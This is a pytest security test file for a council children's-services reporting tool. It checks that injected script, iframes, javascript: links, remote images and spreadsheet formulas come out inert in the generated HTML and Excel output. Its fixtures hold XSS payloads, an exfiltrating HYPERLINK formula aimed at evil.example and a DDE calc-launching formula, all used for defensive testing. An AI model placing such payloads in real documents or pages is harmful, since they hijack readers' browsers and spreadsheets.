"""Text from input is data: script, event handlers, frames, remote images, ``javascript:`` links and formulas
put into the tracker, the analyst's commentary and a council's narrative templates come out inert in the
built pages, the single document and the Excel download. And the manifest names only the files the run
used, without absolute paths.

The council is a 12-child cut of the sample (``make_small_council``) with the attacks written into its own
files; the report is built for real (the children in care and action plan sections, which show the
narrative, the commentary and the tracker).
"""

from __future__ import annotations

import json
import re
import zipfile
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from openpyxl import load_workbook

from cpkit.report.document import DOCUMENT_NAME
from cpkit.report.runner import SAMPLE_DIR, ReportRequest, build_report
from cpkit.report.workbook import WORKBOOK_NAME

from .conftest import built_once, make_small_council, report_pages

pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("injected_report")]

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
DDE = "=cmd|' /C calc'!A0"
# Cells as a SharePoint export carries them: the script is entity-encoded, so decoding the cell's HTML
# turns it into "<script>" (the tracker's HTML clean-up did exactly that before).
TRACKER_ACTION = (
    '<p>&lt;script&gt;alert("tracker")&lt;/script&gt;Introduce achievement awards '
    '<img src="https://evil.example/t.png" onerror="alert(2)"> [see](javascript:alert(3))</p>'
)
TRACKER_ACTION_2 = (
    "Offer free leisure passes ![pixel](https://evil.example/m.png) [details](https://evil.example/phish) "
    '&lt;iframe src="https://evil.example/f"&gt;&lt;/iframe&gt;&lt;a href="javascript:alert(8)"&gt;passes&lt;/a&gt;'
)
COMMENTARY = """Placements rose after the sibling review. See [the DfE statistics](https://www.gov.uk/government/collections/statistics-looked-after-children).

<script>alert("commentary")</script>
<img src="https://evil.example/c.png" alt="remote">
![pixel](https://evil.example/p.png)
[click me](javascript:alert(4))
<iframe src="https://evil.example/frame"></iframe>
<a href="https://www.gov.uk/" onclick="alert(5)">hover</a>
<div style="background:url(https://evil.example/s.png)">styled</div>
<link rel="stylesheet" href="https://evil.example/x.css">
"""
# The flows sentence has three wordings (the counts shown, hidden, or not shown to protect small numbers);
# which one a council sees depends on its numbers, so the council overrides all three.
NARRATIVE = """children_in_care:
  flows: "<script>alert('narrative')</script>{admissions} periods of care began and {ceased} ended <img src=https://evil.example/n.png onerror=alert(6)> [n](javascript:alert(7)) <iframe src=https://evil.example/f></iframe>(an average of {avg_admissions} a month)."
  flows_hidden: "<script>alert('narrative')</script>{admissions} periods of care began and {ceased} ended <img src=https://evil.example/n.png onerror=alert(6)> [n](javascript:alert(7)) <iframe src=https://evil.example/f></iframe>."
  flows_not_shown: "<script>alert('narrative')</script>Some periods of care began and some ended <img src=https://evil.example/n.png onerror=alert(6)> [n](javascript:alert(7)) <iframe src=https://evil.example/f></iframe>."
"""
CHILD_NAMED_FILE = "notes-Jane-Doe-02-03-2014.txt"  # a file nobody meant to publish


def _inject_tracker(source: Path, target: Path) -> None:
    from openpyxl import load_workbook as load

    wb = load(source)
    ws = wb.active
    rows = {ws.cell(r, 1).value: r for r in range(1, ws.max_row + 1)}
    ws.cell(rows["1.1.2"], 2).value = TRACKER_ACTION  # a delayed action: named in the narrative too
    ws.cell(rows["1.2.1"], 2).value = TRACKER_ACTION_2  # another delayed one
    for column, text in ((4, FORMULA), (3, DDE)):  # the lead and the progress log
        cell = ws.cell(rows["1.2.1"], column)
        cell.value = text
        cell.data_type = "s"  # text in the tracker, as a CSV or SharePoint export gives it
    wb.save(target)


@pytest.fixture(scope="session")
def injected(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """(the report folder, the folder holding the data and the tracker outside it)."""

    def build(folder: Path) -> Path:
        data = folder / "data"
        make_small_council(SAMPLE_DIR, data, n=12)
        outside = folder / "elsewhere"
        outside.mkdir()
        # the tracker lives outside the data folder, named by the action_plan_file setting
        _inject_tracker(data / "action_plan.xlsx", outside / "tracker.xlsx")
        (data / "action_plan.xlsx").unlink()
        with open(data / "cpkit.yaml", "a", encoding="utf-8") as settings:
            settings.write(f"action_plan_file: {outside / 'tracker.xlsx'}\n")
        note = data / "commentary" / "2025" / "01_children_in_care.md"
        note.parent.mkdir(parents=True)
        note.write_text(COMMENTARY, encoding="utf-8")
        (data / "narrative.yaml").write_text(NARRATIVE, encoding="utf-8")
        (data / CHILD_NAMED_FILE).write_text("not an input", encoding="utf-8")
        request = ReportRequest(
            year=2025,
            data_dir=data,
            out_dir=folder / "reports",
            sections=["01_children_in_care", "06_action_plan"],
            progress=False,
            jobs=2,
        )
        return build_report(request)

    report = built_once(tmp_path_factory, "injected_report", build)
    return report, report.parents[1]


def _assert_inert(page: str, name: str) -> None:
    soup = BeautifulSoup(page, "html.parser")
    for tag in ("script", "iframe", "frame", "object", "embed", "link", "base", "form", "use", "image"):
        assert soup.find(tag) is None, f"{name}: <{tag}> in the page"
    for style in soup.find_all("style"):  # the template's own stylesheet, in <head>, and nothing else
        assert style.find_parent("head") is not None and "url(" not in style.get_text(), name
    for tag in soup.find_all(True):
        for attribute, value in tag.attrs.items():
            assert not attribute.lower().startswith("on"), f"{name}: {attribute} on <{tag.name}>"
            assert attribute.lower() != "style", f"{name}: style attribute on <{tag.name}>"
            if attribute in ("href", "src"):
                assert not str(value).strip().lower().startswith(("javascript:", "http:", "//")), (
                    name,
                    value,
                )
    for img in soup.find_all("img"):
        assert (img.get("src") or "data:image/png;base64,").startswith("data:image/png;base64,"), (name, img)
    assert "evil.example" not in " ".join(str(v) for t in soup.find_all(True) for v in t.attrs.values()), name


def test_injected_script_links_and_images_come_out_inert_on_every_page(injected):
    report, _ = injected
    pages = report_pages(report)
    assert {p.name for p in pages} >= {"01_children_in_care.html", "06_action_plan.html", DOCUMENT_NAME}
    for page in pages:
        _assert_inert(page.read_text(encoding="utf-8"), page.name)


def test_the_injected_texts_still_say_what_they_said(injected):
    # Inert, not lost: the words around the attacks are still shown, the tracker's action as text.
    report, _ = injected
    section = BeautifulSoup((report / "01_children_in_care.html").read_text(encoding="utf-8"), "html.parser")
    box = section.find("aside", class_="cp-commentary")
    assert "Placements rose after the sibling review." in box.get_text()
    link = box.find("a", string="the DfE statistics")
    assert link["href"] == "https://www.gov.uk/government/collections/statistics-looked-after-children"
    assert "periods of care began and" in section.get_text()  # the council's own template was used
    plan = BeautifulSoup((report / "06_action_plan.html").read_text(encoding="utf-8"), "html.parser")
    assert "Introduce achievement awards" in plan.get_text()
    assert "Offer free leisure passes" in plan.get_text()
    assert FORMULA in plan.get_text()  # shown as the text it is


def test_the_workbook_holds_formula_text_as_text(injected):
    report, _ = injected
    path = report / WORKBOOK_NAME
    with zipfile.ZipFile(path) as z:
        sheets = [z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets and not any(re.search(r"<f[ >]", xml) for xml in sheets), "a formula in the workbook"
    wb = load_workbook(path)
    texts = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    texts.setdefault(cell.value, cell)
    lead = texts.get(FORMULA)
    assert lead is not None and lead.data_type == "s" and lead.quotePrefix, "the tracker's lead, as text"
    assert any(DDE in t for t in texts), "the progress log is in the download, as text"


def test_the_manifest_lists_only_the_files_used_and_no_absolute_path(injected):
    report, root = injected
    manifest = json.loads((report / "manifest.json").read_text(encoding="utf-8"))
    files = {i["file"]: i for i in manifest["inputs"]}
    assert "action_plan_file" in files  # outside the data folder: named by its setting
    assert files["action_plan_file"]["bytes"] == (root / "elsewhere" / "tracker.xlsx").stat().st_size
    for used in (
        "cpkit.yaml",
        "narrative.yaml",
        "commentary/2025/01_children_in_care.md",
        "ssda903/2025/episodes.csv",
    ):
        assert used in files, used
    # read by the runner itself while preparing the figures, not by a section: listed all the same
    assert any(name.startswith("benchmarks/") for name in files)
    assert CHILD_NAMED_FILE not in json.dumps(manifest)
    assert "action_plan.xlsx" not in files
    assert all(re.fullmatch(r"[0-9a-f]{64}", i["sha256"]) for i in files.values())
    import hashlib

    episodes = root / "data" / "ssda903" / "2025" / "episodes.csv"
    assert files["ssda903/2025/episodes.csv"]["sha256"] == hashlib.sha256(episodes.read_bytes()).hexdigest()
    for shared in [*report.glob("*.html"), report / "manifest.json"]:
        text = shared.read_text(encoding="utf-8")
        assert str(root) not in text and "/tmp/" not in text, f"an absolute path in {shared.name}"
        assert CHILD_NAMED_FILE not in text
    index = (report / "index.html").read_text(encoding="utf-8")
    assert "action_plan_file" in index and "commentary/2025/01_children_in_care.md" in index
